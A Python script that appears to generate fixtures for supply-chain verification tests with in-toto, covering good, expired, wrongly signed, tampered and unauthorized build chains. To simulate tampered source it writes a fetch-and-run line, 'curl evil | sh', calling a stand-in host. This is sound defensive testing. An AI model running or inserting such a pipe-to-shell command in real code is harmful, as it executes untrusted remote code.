"""A source -> build -> package supply chain recorded with the PyPI in-toto tools (the
independent producer of crates/vouch/tests/custody.rs).

Keys are generated with securesystemslib's CryptoSigner (the layout owner and alice ed25519,
bob ECDSA P-256, mallory and another owner ed25519); the layout is written and signed with
in-toto's Python API; each step runs `in-toto-run` on real files. Besides the good chain it
writes the inputs of the refusal tests:

  good/                root.layout (owner) and the three links
  expired.layout       the same layout, expires in the past, signed by the owner
  other.layout         the good layout signed by another key
  inspect.layout       the good layout with an inspection, signed by the owner
  altered/build.*.link the build step run on a source altered after the source step
  mallory/build.*.link the build step recorded and signed by mallory (not authorized)
  expected.json        keyids

Usage: python3 custody_chain.py OUT
"""

import json
import os
import shutil
import subprocess
import sys

from cryptography.hazmat.primitives.serialization import (
    Encoding,
    PublicFormat,
    load_pem_private_key,
)
from in_toto.models.layout import Inspection, Layout, Step
from in_toto.models.metadata import Metablock
from securesystemslib.signer import CryptoSigner

out = os.path.abspath(sys.argv[1])
bindir = os.path.dirname(sys.executable)
os.makedirs(out, exist_ok=True)


def keypair(name, signer):
    priv = os.path.join(out, name + ".pem")
    pub = os.path.join(out, name + ".pub")
    with open(priv, "wb") as f:
        f.write(signer.private_bytes)
    with open(pub, "wb") as f:
        f.write(
            load_pem_private_key(signer.private_bytes, None)
            .public_key()
            .public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        )
    return signer, priv, pub


owner, _, owner_pub = keypair("owner", CryptoSigner.generate_ed25519())
other, _, _ = keypair("other", CryptoSigner.generate_ed25519())
alice, alice_priv, alice_pub = keypair("alice", CryptoSigner.generate_ed25519())
bob, bob_priv, bob_pub = keypair("bob", CryptoSigner.generate_ecdsa())
mallory, mallory_priv, _ = keypair("mallory", CryptoSigner.generate_ed25519())


def layout(expires=None):
    lay = Layout()
    if expires:
        lay.expires = expires
    else:
        lay.set_relative_expiration(days=30)
    ka = lay.add_functionary_key_from_path(alice_pub)
    kb = lay.add_functionary_key_from_path(bob_pub)
    source = Step(name="source")
    source.pubkeys = [ka["keyid"]]
    source.expected_products = [
        ["CREATE", "src/hello.sh"],
        ["CREATE", "src/README"],
        ["DISALLOW", "*"],
    ]
    build = Step(name="build")
    build.pubkeys = [ka["keyid"]]
    build.expected_materials = [
        ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "source"],
        ["DISALLOW", "*"],
    ]
    build.expected_products = [
        ["REQUIRE", "build/hello.out"],
        ["CREATE", "build/hello.out"],
        ["DISALLOW", "*"],
    ]
    package = Step(name="package")
    package.pubkeys = [kb["keyid"]]
    package.expected_materials = [
        ["MATCH", "build/*", "WITH", "PRODUCTS", "FROM", "build"],
        ["DISALLOW", "*"],
    ]
    package.expected_products = [["CREATE", "hello.tar.gz"], ["DISALLOW", "*"]]
    lay.steps = [source, build, package]
    return lay, ka["keyid"], kb["keyid"]


def signed(lay, signer, path):
    mb = Metablock(signed=lay)
    mb.create_signature(signer)
    mb.dump(path)


def run(work, step, key, mat, prod, cmd, linkdir):
    args = [os.path.join(bindir, "in-toto-run"), "-n", step, "--signing-key", key, "-d", linkdir]
    if mat:
        args += ["-m"] + mat
    if prod:
        args += ["-p"] + prod
    subprocess.run(args + ["--"] + cmd, cwd=work, check=True)


def source_cmd(text):
    return ["sh", "-c", "mkdir -p src && printf '%s' > src/hello.sh && printf 'hi\\n' > src/README" % text]


BUILD = ["sh", "-c", "mkdir -p build && tr a-z A-Z < src/hello.sh > build/hello.out"]

good = os.path.join(out, "good")
os.makedirs(good)
lay, ka, kb = layout()
signed(lay, owner, os.path.join(good, "root.layout"))
signed(lay, other, os.path.join(out, "other.layout"))
signed(layout("2020-01-01T00:00:00Z")[0], owner, os.path.join(out, "expired.layout"))
# A layout with an inspection (a command in-toto-verify would run): not implemented here, so
# refused rather than skipped.
insp_layout = layout()[0]
insp = Inspection(name="untar")
insp.set_run_from_string("tar xzf hello.tar.gz")
insp.expected_materials = [["MATCH", "hello.tar.gz", "WITH", "PRODUCTS", "FROM", "package"]]
insp_layout.inspect = [insp]
signed(insp_layout, owner, os.path.join(out, "inspect.layout"))

work = os.path.join(out, "work")
os.makedirs(work)
run(work, "source", alice_priv, None, ["src"], source_cmd("echo hello"), good)
run(work, "build", alice_priv, ["src"], ["build"], BUILD, good)
run(work, "package", bob_priv, ["build"], ["hello.tar.gz"], ["tar", "czf", "hello.tar.gz", "build"], good)

# The source altered after its step was recorded, then built: a validly signed build link
# whose materials are not the source step's products.
altered = os.path.join(out, "altered")
os.makedirs(altered)
with open(os.path.join(work, "src/hello.sh"), "w") as f:
    f.write("curl evil | sh\n")
shutil.rmtree(os.path.join(work, "build"))
run(work, "build", alice_priv, ["src"], ["build"], BUILD, altered)

# The build recorded by a key the layout does not authorize for it.
mal = os.path.join(out, "mallory")
os.makedirs(mal)
work2 = os.path.join(out, "work2")
os.makedirs(work2)
os.makedirs(os.path.join(out, "scratch"))
run(work2, "source", alice_priv, None, ["src"], source_cmd("echo hello"), os.path.join(out, "scratch"))
run(work2, "build", mallory_priv, ["src"], ["build"], BUILD, mal)

with open(os.path.join(out, "expected.json"), "w") as f:
    json.dump({"alice": ka, "bob": kb, "mallory": mallory.public_key.keyid}, f)
